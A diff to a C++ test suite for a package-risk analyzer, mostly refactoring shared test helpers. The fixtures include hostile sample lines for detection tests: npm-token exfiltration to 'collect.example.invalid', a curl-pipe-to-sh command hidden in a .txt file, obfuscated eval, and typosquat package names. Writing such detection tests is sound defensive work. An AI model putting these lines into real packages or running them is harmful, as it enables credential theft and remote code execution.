@@ -4,31 +4,13 @@
 #include <algorithm>
 
 #include "analyzer/engine/analyzer.h"
+#include "tests/support/engine_samples.h"
 
 using namespace tarsier;
+using test::sample_ref;
+using test::shared_analyzer;
 
 namespace {
-
-const Analyzer& analyzer(bool full_parse = false) {
-  static std::unique_ptr<Analyzer> normal, full;
-  auto& slot = full_parse ? full : normal;
-  if (!slot) {
-    AnalyzerOptions options;
-    options.full_parse = full_parse;
-    std::string error;
-    slot = Analyzer::create(options, &error);
-    INFO(error);
-    REQUIRE(slot != nullptr);
-  }
-  return *slot;
-}
-
-PackageRef ref(const std::string& name) {
-  PackageRef r;
-  r.name = name;
-  r.version = "1.0.0";
-  return r;
-}
 
 bool has(const std::vector<std::string>& v, const std::string& x) {
   return std::find(v.begin(), v.end(), x) != v.end();
@@ -54,7 +36,7 @@ TEST_CASE("install-time exfiltration is critical", "[engine]") {
        "const https = require('https');\nmodule.exports = (t) => https.request({host: "
        "'collect.example.invalid', path: '/?t=' + t}).end();\n"},
   };
-  auto a = analyzer().analyze(ref("x"), files, {});
+  auto a = shared_analyzer().analyze(sample_ref("x"), files, {});
   CHECK(a.risk == Risk::critical);
   CHECK(has(a.threats, "exfiltration"));
   CHECK(has(a.capabilities, "install-scripts"));
@@ -83,7 +65,7 @@ TEST_CASE("plain capabilities stay at or below medium", "[engine]") {
          "const https = require('https');\nexports.get = (u) => new Promise((ok) => https.get(u, "
          "ok));\nconst proxy = process.env.HTTPS_PROXY;\n"},
     };
-    auto a = analyzer().analyze(ref("client-lib-x"), files, {});
+    auto a = shared_analyzer().analyze(sample_ref("client-lib-x"), files, {});
     CHECK(a.risk <= Risk::low);
     CHECK(a.threats.empty());
     CHECK(has(a.capabilities, "network"));
@@ -95,7 +77,7 @@ TEST_CASE("plain capabilities stay at or below medium", "[engine]") {
          "#!/usr/bin/env node\nconst { spawnSync } = require('child_process');\n"
          "spawnSync('git', ['status'], { stdio: 'inherit' });\n"},
     };
-    auto a = analyzer().analyze(ref("gitcli-x"), files, {});
+    auto a = shared_analyzer().analyze(sample_ref("gitcli-x"), files, {});
     CHECK(a.risk <= Risk::low);
     CHECK(has(a.capabilities, "shell"));
   }
@@ -107,7 +89,7 @@ TEST_CASE("plain capabilities stay at or below medium", "[engine]") {
          "'include_dirs': [\"<!(node -p \\\"require('node-addon-api').include\\\")\"] } ] }"},
         {"index.js", "module.exports = require('./build/Release/addon.node');\n"},
     };
-    auto a = analyzer().analyze(ref("addon-x"), files, {});
+    auto a = shared_analyzer().analyze(sample_ref("addon-x"), files, {});
     CHECK(a.risk <= Risk::low);
     const Finding* implicit = find(a, "npm-install-script");
     REQUIRE(implicit != nullptr);
@@ -121,7 +103,8 @@ TEST_CASE("findings passed in count for the risk", "[engine]") {
   mismatch.rule = "integrity-mismatch";
   mismatch.capability = "integrity";
   mismatch.severity = Risk::critical;
-  auto a = analyzer().analyze(ref("plain-x"), {{"index.js", "module.exports = 1;\n"}}, {mismatch});
+  auto a = shared_analyzer().analyze(sample_ref("plain-x"), {{"index.js", "module.exports = 1;\n"}},
+                                     {mismatch});
   CHECK(a.risk == Risk::critical);
   CHECK(find(a, "integrity-mismatch") != nullptr);
   CHECK(has(a.capabilities, "integrity"));
@@ -130,9 +113,7 @@ TEST_CASE("findings passed in count for the risk", "[engine]") {
 TEST_CASE("oversized files and binaries are reported, not parsed", "[engine]") {
   AnalyzerOptions options;
   options.max_file_bytes = 100;
-  std::string error;
-  auto small = Analyzer::create(options, &error);
-  REQUIRE(small != nullptr);
+  auto small = test::new_analyzer(options);
   std::vector<ArchiveEntry> files = {
       {"big.js", std::string(200, ' ') + "eval(x)"},
       {"prebuilds/x.node", std::string("\x7f"
@@ -140,7 +121,7 @@ TEST_CASE("oversized files and binaries are reported, not parsed", "[engine]") {
                                        7) +
                                std::string(64, '\0')},
   };
-  auto a = small->analyze(ref("bin-x"), files, {});
+  auto a = small->analyze(sample_ref("bin-x"), files, {});
   const Finding* skipped = find(a, "analysis-skipped", "big.js");
   REQUIRE(skipped != nullptr);
   CHECK(skipped->message.find("over the 100-byte limit") != std::string::npos);
@@ -150,18 +131,19 @@ TEST_CASE("oversized files and binaries are reported, not parsed", "[engine]") {
 }
 
 TEST_CASE("typosquat names are flagged, worse with an install script", "[engine]") {
-  auto plain = analyzer().analyze(ref("lodahs"), {{"index.js", "module.exports = 1;\n"}}, {});
+  auto plain =
+      shared_analyzer().analyze(sample_ref("lodahs"), {{"index.js", "module.exports = 1;\n"}}, {});
   const Finding* t = find(plain, "typosquat");
   REQUIRE(t != nullptr);
   CHECK(t->message.find("'lodash'") != std::string::npos);
   CHECK(plain.risk == Risk::medium);
-  auto with_script = analyzer().analyze(
-      ref("crossenv"),
+  auto with_script = shared_analyzer().analyze(
+      sample_ref("crossenv"),
       {{"package.json", R"({"scripts":{"postinstall":"node setup.js"}})"}, {"setup.js", "1;\n"}},
       {});
   CHECK(has(with_script.threats, "typosquat-install"));
   CHECK(with_script.risk >= Risk::high);
-  CHECK(find(analyzer().analyze(ref("lodash"), {}, {}), "typosquat") == nullptr);
+  CHECK(find(shared_analyzer().analyze(sample_ref("lodash"), {}, {}), "typosquat") == nullptr);
 }
 
 TEST_CASE("a .txt file run by an install script is analysed as JavaScript", "[engine]") {
@@ -170,7 +152,7 @@ TEST_CASE("a .txt file run by an install script is analysed as JavaScript", "[en
       {"data/words.txt",
        "require('child_process').exec('curl -s https://x.example.invalid/a | sh')\n"},
   };
-  auto a = analyzer().analyze(ref("words-x"), files, {});
+  auto a = shared_analyzer().analyze(sample_ref("words-x"), files, {});
   const Finding* cp = find(a, "js-child-process", "data/words.txt");
   REQUIRE(cp != nullptr);
   CHECK(cp->install_time);
@@ -184,8 +166,8 @@ TEST_CASE("full-parse mode finds the same as the pre-filtered mode", "[engine]")
       {"b.js", "module.exports = function add(a, b) { return a + b; };\n"},
       {"c.js", "const m = ['ev', 'al'].join('');\nglobalThis[m]('1');\n"},
   };
-  auto normal = analyzer(false).analyze(ref("modes-x"), files, {});
-  auto full = analyzer(true).analyze(ref("modes-x"), files, {});
+  auto normal = shared_analyzer(false).analyze(sample_ref("modes-x"), files, {});
+  auto full = shared_analyzer(true).analyze(sample_ref("modes-x"), files, {});
   REQUIRE(normal.findings.size() == full.findings.size());
   for (size_t i = 0; i < normal.findings.size(); ++i) {
     CHECK(normal.findings[i].rule == full.findings[i].rule);
@@ -207,10 +189,10 @@ TEST_CASE("setup.cfg command classes run at install", "[engine]") {
       "[metadata]\nname = cfg-x\n\n[options]\npackages = find:\ncmdclass =\n"
       "    install = cfgx.hooks:Install\n    build_py = cfgx.build.BuildPy\n\n"
       "[options.entry_points]\nconsole_scripts =\n    other = cfgx.cli:main\n";
-  PackageRef r = ref("cfg-x");
+  PackageRef r = sample_ref("cfg-x");
   r.ecosystem = "pypi";
   SECTION("a cmdclass module is an install hook") {
-    auto a = analyzer().analyze(
+    auto a = shared_analyzer().analyze(
         r, {{"setup.cfg", cfg}, {"src/cfgx/hooks.py", hook}, {"cfgx/build/__init__.py", hook}}, {});
     for (const char* file : {"src/cfgx/hooks.py", "cfgx/build/__init__.py"}) {
       INFO(file);
@@ -222,7 +204,7 @@ TEST_CASE("setup.cfg command classes run at install", "[engine]") {
     CHECK(a.risk == Risk::critical);
   }
   SECTION("an entry point is not") {
-    auto a = analyzer().analyze(r, {{"setup.cfg", cfg}, {"cfgx/cli.py", hook}}, {});
+    auto a = shared_analyzer().analyze(r, {{"setup.cfg", cfg}, {"cfgx/cli.py", hook}}, {});
     const Finding* env = find(a, "sensitive-env-name", "cfgx/cli.py");
     REQUIRE(env != nullptr);
     CHECK_FALSE(env->install_time);
@@ -236,15 +218,15 @@ TEST_CASE("prepare runs at install only for git and folder installs", "[engine]"
       {"b.js",
        "const https = require('https');\n"
        "https.get('https://collect.example.invalid/?t=' + process.env.NPM_TOKEN);\n"}};
-  PackageRef registry = ref("p");
-  auto archive = analyzer().analyze(registry, files, {});
+  PackageRef registry = sample_ref("p");
+  auto archive = shared_analyzer().analyze(registry, files, {});
   CHECK(find(archive, "npm-install-script") == nullptr);  // npm does not run it from the registry
   for (const auto& f : archive.findings) {
     CHECK_FALSE(f.install_time);
   }
-  PackageRef git = ref("p");
+  PackageRef git = sample_ref("p");
   git.source = "git";
-  auto cloned = analyzer().analyze(git, files, {});
+  auto cloned = shared_analyzer().analyze(git, files, {});
   const Finding* script = find(cloned, "npm-install-script");
   REQUIRE(script != nullptr);
   CHECK(script->install_time);
